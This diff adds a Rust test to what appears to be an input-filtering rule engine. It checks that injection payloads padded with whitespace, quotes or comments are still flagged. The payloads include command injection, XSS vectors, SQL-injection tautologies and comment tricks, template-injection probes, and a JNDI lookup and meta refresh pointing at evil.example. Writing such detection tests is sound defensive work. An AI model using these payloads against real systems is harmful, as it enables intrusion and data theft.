@@ -139,6 +139,48 @@ fn parameters_that_are_named_as_functions_or_words_of_sql_raise_nothing() {
 }
 
 #[test]
+fn filler_between_the_parts_of_an_attack_hides_nothing() {
+    for (before, filler, after) in [
+        ("7;", " ", "cat /etc/hosts"),
+        ("7$(", "\t", "cat /etc/hosts)"),
+        ("7;c", "''", "at /etc/hosts"),
+        ("7;/", "./", "bin/cat /etc/hosts"),
+        ("<img src=x onerror", " ", "=f(7)>"),
+        ("<a href=\"java", "\t", "script:f(7)\">"),
+        ("", " ", "javascript:alert(7)"),
+        ("javascript:/*", "a", "*/alert(7)"),
+        ("<a href=&#", "0", "106;avascript:f(7)>"),
+        ("<meta a=", "b", " http-equiv=refresh content='0;url=//evil.example'>"),
+        ("';", " ", "alert(7)//"),
+        ("';alert", " ", "(7)//"),
+        ("7' union#", "a", "\nselect a,b#"),
+        ("7' or ", "(", "7=7-- "),
+        ("7' or ", "not ", "7=8-- "),
+        ("7' or -", "~", "7=7-- "),
+        ("root'", ")", "-- "),
+        ("7'", ")", " or 7=7-- "),
+        ("root'-- ", "a", ""),
+        ("root'#", "a", ""),
+        ("root' -- ", "a", ""),
+        ("${${", "a", ":-j}ndi:ldap://evil.example/a}"),
+        ("{{", " ", "7*7}}"),
+        ("{{'", "a", "'.__class__}}"),
+    ] {
+        for count in [1, 13, 40, 600, 3000] {
+            let value = format!("{before}{}{after}", filler.repeat(count));
+            assert!(rule_of(&value).is_some(), "{before}{count} times {filler:?}{after}");
+        }
+    }
+    for value in [
+        "Ladies' -- new arrivals of the season, all sizes",
+        "5' -- a length that some would call short",
+        "{{ a }} and `b` }}",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn lists_of_words_that_are_also_commands_raise_nothing() {
     for value in [
         "java; php; python",
